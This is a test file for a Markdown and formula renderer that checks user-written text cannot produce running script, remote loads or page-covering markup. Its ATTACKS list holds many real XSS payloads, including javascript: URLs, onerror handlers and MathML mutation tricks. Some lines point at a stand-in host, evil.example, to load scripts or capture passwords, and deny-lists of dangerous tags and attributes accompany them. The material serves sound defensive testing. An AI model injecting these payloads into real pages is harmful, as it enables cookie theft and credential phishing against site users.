import assert from "node:assert/strict";
import fc from "fast-check";
import { render, renderMarkdown } from "./render.ts";

interface Tag {
  name: string;
  attributes: [name: string, value: string][];
}

/** The opening tags of safe HTML, in which `<` and `"` occur only as markup. */
const tagsOf = (html: string): Tag[] =>
  [...html.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)].map(([, name, rest]) => ({
    name: name.toLowerCase(),
    attributes: [...rest.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)]
      .map(([, name, value = ""]) => [name.toLowerCase(), value]),
  }));

const FORBIDDEN_TAGS =
  /^(script|style|iframe|object|embed|svg|form|input|button|textarea|select|base|meta|link|audio|video|source|template|noscript|title|html|body|head|frame|frameset|annotation-xml|foreignobject|use|animate|set|image|xmp|plaintext|noembed)$/;
const FORBIDDEN_ATTRIBUTES =
  /^(on.*|style|srcset|srcdoc|formaction|action|background|id|name|target|ping|data-.*|xlink:href|actiontype|poster|dynsrc|lowsrc|is|slot)$/;

/** Nothing in `html` runs, loads as a page, or covers what is beside it. */
function expectSafe(html: string, source: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    assert.doesNotMatch(name, FORBIDDEN_TAGS, source);
    for (const [attribute, value] of attributes) {
      assert.doesNotMatch(attribute, FORBIDDEN_ATTRIBUTES, source);
      if (attribute === "href") {
        // As browsers read it: a scheme that we know, or none at all.
        const address = value.replace(/[\0-\x20]/g, "");
        assert.match(address, /^(https?:|mailto:|[^:/?#]*([/?#]|$))/i, source);
      }
      if (attribute === "src") {
        assert.match(value, /^(https?:|data:|[^:]*$)/i, source);
      }
      if (attribute === "class") {
        assert.match(value, /^(formula|language-\S*( language-\S*)*)$/, source);
      }
    }
  }
}

const ATTACKS = [
  '<script></script><a href="java\nscript:alert(1)">x</a><img src="x">',
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)//",
  '<img src="x" onerror = "alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://a.cn" onclick="alert(1)" style="position:fixed" id=x>x</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](<javascript:alert(1)>)",
  "![x](javascript:alert(1))",
  "![x](data:text/html,x)",
  '![x](x"onerror="alert(1))',
  '[x](https://a.cn "onmouseover=alert(1)")',
  '[x](https://a.cn "\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=x></object><embed src=x>",
  '<form action="https://evil.example"><input name=password></form>',
  "<style>*{display:none}</style>",
  '<p style="position:fixed;inset:0">cover</p>',
  '<link rel=stylesheet href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math style="position:fixed" class="x" id="y"><mi style="inset:0">x</mi>',
  '<math><maction actiontype="statusline#http://x" href="javascript:x">',
  "<math><mtext><table><mglyph><style><!--</style>" +
  '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
  "<math><mtext></form><form><mglyph><svg><mtext><style><path id=x>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  '<code class="x language-c evil">x</code>',
  '```c" onmouseover="alert(1)\nx\n```',
  "```<script>alert(1)</script>\nx\n```",
  "`<script>alert(1)</script>`",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\htmlClass{evil}{x}\\htmlId{x}{y}\\htmlStyle{color:red}{z}$",
  "$\\htmlData{onclick=alert(1)}{x}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$<script>alert(1)</script>$",
  '$\\color{"onmouseover="alert(1)}{x}$',
  "$$\\unknown{<svg onload=alert(1)>}$$",
  "<details><summary><script>x</script></summary></details>",
];

Deno.test("no text of a user makes the page run, load or hide anything", () => {
  for (const attack of ATTACKS) {
    expectSafe(renderMarkdown(attack), attack);
    expectSafe(renderMarkdown(`text ${attack} text`), attack);
    expectSafe(renderMarkdown(`> - ${attack}`), attack);
  }
});

Deno.test("nor do pieces of such texts, however they are put together", () => {
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        "<",
        ">",
        '"',
        "'",
        "&lt;",
        "$",
        "`",
        "\n",
        "\\",
        "](",
        "[",
      ),
      fc.constantFrom("<math>", "</math>", "<mtext>", "<table>", "<!--", "-->"),
    ),
    { maxLength: 6 },
  );
  fc.assert(
    fc.property(pieces, (pieces) => {
      const source = pieces.join("");
      expectSafe(renderMarkdown(source), source);
    }),
    { numRuns: 300 },
  );
});

Deno.test("links open for readers, and lend the target no weight", () => {
  const html = renderMarkdown("[site](https://a.cn) <li@a.cn> [up](/problem)");
  const links = tagsOf(html).filter(({ name }) => name === "a")
    .map(({ attributes }) => Object.fromEntries(attributes));
  assert.deepEqual(links.map(({ href }) => href), [
    "https://a.cn",
    "mailto:li@a.cn",
    "/problem",
  ]);
  assert.ok(links.every(({ rel }) => rel === "nofollow noopener"));
});

Deno.test("what statements are made of comes through", () => {
  const cases: [markdown: string, html: RegExp][] = [
    ["# A\n\ntext **b** *i*", /<h2>A<\/h2>\s*<p>text <strong>b<\/strong>/],
    ["1. a\n2. b", /<ol>\s*<li>a<\/li>/],
    ["5. five", /<ol start="5">/],
    ["| a | b |\n|:-:|---|\n| 1 | 2 |", /<th align="center">a<\/th>/],
    ["![图](/api/public/img/1.png)", /<img src="\/api\/public\/img\/1\.png"/],
    ["~~old~~", /<del>old<\/del>/],
    ["> quote", /<blockquote>/],
    ["a &lt; b && c", /a &lt; b &amp;&amp; c/],
    ["<details><summary>s</summary>x</details>", /<details><summary>s<\/sum/],
    ["`a < b`", /<code>a &lt; b<\/code>/],
  ];
  for (const [markdown, html] of cases) {
    // However busy the machine is.
    assert.match(renderMarkdown(markdown, Infinity), html, markdown);
  }
});

Deno.test("code keeps the name of its language, and only that class", () => {
  const html = renderMarkdown("```cpp\nint main() { return a<b; }\n```");
  assert.match(
    html,
    /<code class="language-cpp">int main\(\) \{ return a&lt;b/,
  );
  assert.doesNotMatch(renderMarkdown("```\nx\n```"), /class/);
  const mixed = renderMarkdown('<code class="evil language-c fixed">x</code>');
  assert.match(mixed, /<code class="language-c">/);
});

Deno.test("formulas become MathML that needs no style of its own", () => {
  const formulas = [
    "$a+b$",
    "$$\\sum_{i=1}^{n} \\frac{a_i}{2^i} \\le 10^{18}$$",
    "$1 \\leq n \\leq 10^5$",
    "$\\begin{cases} 1 & x > 0 \\\\ 0 & x \\le 0 \\end{cases}$",
    "$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$",
    "$\\color{red}{x} \\boxed{y} \\sqrt[3]{z} \\overline{w}$",
    "$\\binom{n}{k} \\bmod 998244353$",
    "$\\text{若 } x \\in S$",
  ];
  for (const formula of formulas) {
    const html = renderMarkdown(formula);
    assert.match(html, /<math[\s>].*<\/math>/s, formula);
    assert.doesNotMatch(html, /\s(style|class)=|katex-html/, formula);
    expectSafe(html, formula);
  }
});

Deno.test("a formula that is wrong spoils neither the page nor the rest of the text", () => {
  for (const wrong of ["$\\frac{a}$", "$\\begin{x}$", "$}{$", "$\\\\\\$"]) {
    const html = renderMarkdown(`before ${wrong} after`);
    assert.match(html, /before/, wrong);
    assert.match(html, /after/, wrong);
  }
  const bomb = String.raw`$\def\a{xx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}` +
    String.raw`\def\d{\c\c\c\c}\def\e{\d\d\d\d}\def\f{\e\e\e\e}\f$`;
  assert.ok(renderMarkdown(bomb).length < 10_000);
  const wide = renderMarkdown("$\\rule{99999em}{99999em}$");
  assert.doesNotMatch(wide, /(width|height)="99999em/);
});

/** As long as a text may be. */
const filled = (piece: string) =>
  piece.repeat(Math.ceil(65_535 / piece.length)).slice(0, 65_535);

Deno.test("a text says whether all of it was rendered", () => {
  assert.ok(render("**a** b").isWhole);
  assert.ok(!render("**a** b", -1).isWhole);
  assert.ok(render("**a** b").isWhole, "the next one has its own time");
});

Deno.test("where patience ends the rest is shown as it was written", () => {
  const text = "# a\n\n**b** `c` <d>\n\n- e\n";
  const plain = renderMarkdown(text, -1);
  assert.deepEqual(tagsOf(plain).map(({ name }) => name), ["p"]);
  for (const part of ["# a", "**b** `c` &lt;d&gt;", "- e"]) {
    assert.ok(plain.includes(part), plain);
  }
  assert.match(renderMarkdown(text), /<h2>a<\/h2>/);
});

Deno.test("no text grows without end, or fails", () => {
  const wide = (letter: string) => `${letter}|`.repeat(1_500);
  const texts = {
    "emphasis that is never closed": filled("_a __a"),
    "a word that may be an address": filled("a") + "@",
    "quotes in quotes": filled("> "),
    "lists in lists": filled("-  ") + "a",
    "braces in braces": `$${"{".repeat(32_000)}${"}".repeat(32_000)}$`,
    "a table of millions of cells": `${wide("a")}\n${wide("-")}\n${
      filled("b\n")
    }`,
  };
  for (const [name, text] of Object.entries(texts)) {
    const html = renderMarkdown(text);
    assert.ok(html.length > 1_000 && html.length < 1_000_000, name);
  }
});

Deno.test("a table of a size that people make stays one", () => {
  const html = renderMarkdown(`a|b\n-|-\n${"1|2\n".repeat(500)}`);
  assert.equal(tagsOf(html).filter(({ name }) => name === "td").length, 1_000);
});
